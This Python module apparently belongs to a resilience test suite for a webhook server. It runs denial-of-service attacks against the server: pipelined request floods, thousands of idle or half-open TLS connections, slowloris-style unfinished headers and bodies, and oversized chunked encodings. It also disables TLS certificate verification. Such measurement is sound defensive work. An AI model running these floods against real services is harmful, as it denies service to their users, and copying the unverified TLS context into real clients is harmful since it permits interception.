"""Attacks by connections, without any credential: what they make the process hold, and who else waits.

Each attack takes a server, does its worst for some seconds, and ends with a row. An honest caller asks
meanwhile, on a new connection each time. Not here: what pods and manifests can do.
"""

from __future__ import annotations

import contextlib
import functools
import http.client
import resource
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from attack.rows import Row, Server, forget_the_peak, peak_mb

SILENT = 2000
PIPELINED_BYTES = 10 * 1000 * 1000
_GIVE_UP_SECONDS = 8.0
_MOST_SECONDS = 30.0
_GET = b"GET /readyz HTTP/1.1\r\nhost: x\r\n\r\n"
_POST = b"POST /mutate HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"


def rows(server: Server) -> Iterator[Row]:
    """Every attack, one after the other."""
    needed = 4 * SILENT
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(needed, hard)), hard))
    yield _row(server, "1", "10 MB of pipelined GETs at the webhook", lambda: pipelined(server, tls=True))
    yield _row(server, "1", "10 MB of pipelined GETs at health", lambda: pipelined(server, tls=False))
    posts = _POST + b"content-length: 2\r\n\r\n{}"
    yield _row(server, "1", "10 MB of pipelined POSTs", lambda: pipelined(server, tls=True, one=posts))
    yield _row(server, "4", f"{SILENT} silent connections at the webhook", lambda: silent(server, "tls"))
    yield _row(server, "4", f"{SILENT} unfinished handshakes", lambda: silent(server, "handshake"))
    yield _row(server, "4", f"{SILENT} silent connections at health", lambda: silent(server, "plain"))
    yield _row(server, "4", "300 heads that never end", lambda: slow(server, 300, _GET[:-2], 30 * 1024))
    half = _POST + b"content-length: 7000000\r\n\r\n"
    yield _row(server, "4", "1000 bodies of 60 KB that never end", lambda: slow(server, 1000, half, 60_000))
    yield _row(server, "4", "100 bodies of 6 MB that never end", lambda: slow(server, 100, half, 6_000_000))
    chunked = _POST + b"transfer-encoding: chunked\r\n\r\n"
    yield _row(
        server, "21", "chunk extensions of 100 MB", lambda: streamed(server, chunked + b"1;", b"x" * 65536)
    )
    yield _row(server, "21", "chunks of one byte", lambda: streamed(server, chunked, b"1\r\n \r\n" * 10_000))


def pipelined(server: Server, *, tls: bool, one: bytes = _GET) -> str:
    """Many requests at once, no answer read."""
    with contextlib.ExitStack() as stack:
        caller = stack.enter_context(_dial(server, "tls" if tls else "plain"))
        sent = _send(caller, one * (65536 // len(one)), PIPELINED_BYTES)
        time.sleep(1)
    return _sent(sent, PIPELINED_BYTES)


def streamed(server: Server, begin: bytes, again: bytes, most: int = 100_000_000) -> str:
    """A request that goes on and on."""
    with _dial(server, "tls") as caller:
        caller.sendall(begin)
        sent = _send(caller, again, most)
    return _sent(sent, most)


def silent(server: Server, how: str) -> str:
    """As many connections as there are places, and not a byte of HTTP: tls, handshake, or plain."""
    with contextlib.ExitStack() as stack:
        opened = 0
        for _ in range(SILENT):
            with contextlib.suppress(OSError):
                stack.enter_context(_dial(server, how))
                opened += 1
        time.sleep(3)
    return f"{opened} opened"


def slow(server: Server, connections: int, begin: bytes, size: int) -> str:
    """Requests that stop in the middle, after so many bytes."""
    ended = 0
    with contextlib.ExitStack() as stack:
        opened = []
        for _ in range(connections):
            try:
                caller = stack.enter_context(_dial(server, "tls"))
                caller.sendall(begin + b"x" * size)
                opened.append(caller)
            except OSError:
                ended += 1
        time.sleep(1)
        for caller in opened:
            caller.setblocking(False)
            ended += _has_ended(caller)
    return f"{ended} of {connections} ended"


def ask(server: Server, *, health: bool = False) -> float:
    """How long an honest caller waits for an answer; infinity where it gets none."""
    begun = time.monotonic()
    asked: http.client.HTTPConnection
    if health:
        asked = http.client.HTTPConnection(server.host, server.health_port, timeout=_GIVE_UP_SECONDS)
    else:
        asked = http.client.HTTPSConnection(
            server.host, server.port, timeout=_GIVE_UP_SECONDS, context=_trusting(server.ca)
        )
    with contextlib.closing(asked):
        try:
            asked.request("GET", "/healthz")
            answered = asked.getresponse().status == 200
        except (OSError, http.client.HTTPException):
            answered = False
    return time.monotonic() - begun if answered else float("inf")


def _row(server: Server, fault: str, what: str, attack: Callable[[], str]) -> Row:
    done, waited = threading.Event(), [0.0]

    def bystander() -> None:
        while not done.is_set():
            for health in (False, True):
                waited.append(ask(server, health=health))
            done.wait(0.2)

    forget_the_peak(server.pid)
    asking = threading.Thread(target=bystander)
    asking.start()
    begun = time.monotonic()
    try:
        answer = attack()
    finally:
        seconds = time.monotonic() - begun
        done.set()
        asking.join()
    return Row(fault, what, peak_mb(server.pid), seconds, max(waited), answer)


def _dial(server: Server, how: str) -> socket.socket:
    if how == "plain":
        return socket.create_connection((server.host, server.health_port), _GIVE_UP_SECONDS)
    made = socket.create_connection((server.host, server.port), _GIVE_UP_SECONDS)
    return made if how == "handshake" else _unchecked().wrap_socket(made)


def _send(caller: socket.socket, block: bytes, most: int) -> int:
    """How much can be sent until it is enough, the other side ends, or takes no more."""
    caller.settimeout(5)
    sent, deadline = 0, time.monotonic() + _MOST_SECONDS
    with contextlib.suppress(OSError):
        while sent < most and time.monotonic() < deadline:
            caller.sendall(block)
            sent += len(block)
    return sent


def _sent(sent: int, most: int) -> str:
    return f"{'all' if sent >= most else 'ended after'} {sent / 1e6:.1f} MB"


def _has_ended(caller: socket.socket) -> bool:
    try:
        return caller.recv(1) == b""
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


@functools.cache
def _trusting(ca: Path | None) -> ssl.SSLContext:
    if ca is None:
        return _unchecked()
    trust = ssl.create_default_context(cafile=str(ca))
    trust.check_hostname = False
    return trust


@functools.cache
def _unchecked() -> ssl.SSLContext:
    trust = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    trust.check_hostname = False
    trust.verify_mode = ssl.CERT_NONE
    return trust
